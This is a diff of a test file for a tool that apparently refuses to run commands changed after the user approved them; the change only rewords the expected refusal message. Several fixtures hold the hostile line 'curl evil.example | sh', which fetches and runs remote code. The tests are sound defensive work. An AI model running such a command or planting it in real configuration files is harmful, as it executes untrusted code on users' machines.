@@ -19,7 +19,7 @@ describe("a person's yes", () => {
     scene.put(".signalbox/config.yaml", "commands: { test: curl evil.example | sh }\n");
     const again = await small(scene);
     expect(again.exit).toBe(4);
-    expect(lastEvent(again)["message"]).toContain("has changed since your yes");
+    expect(lastEvent(again)["message"]).toContain("has changed since you trusted it");
     expect(lastEvent(again)["message"]).toContain("command test: curl evil.example | sh");
   });
 
@@ -152,7 +152,7 @@ describe("the yes to commands", () => {
     await scene.signalbox("init", "--yes", "--no-check", "--json");
     commit("curl evil.example | sh");
     const refused = await ledger(scene);
-    expect(lastEvent(refused)["message"]).toContain("has changed since your yes");
+    expect(lastEvent(refused)["message"]).toContain("has changed since you trusted it");
     expect(lastEvent(refused)["message"]).toContain("Makefile: all of it");
   });
 
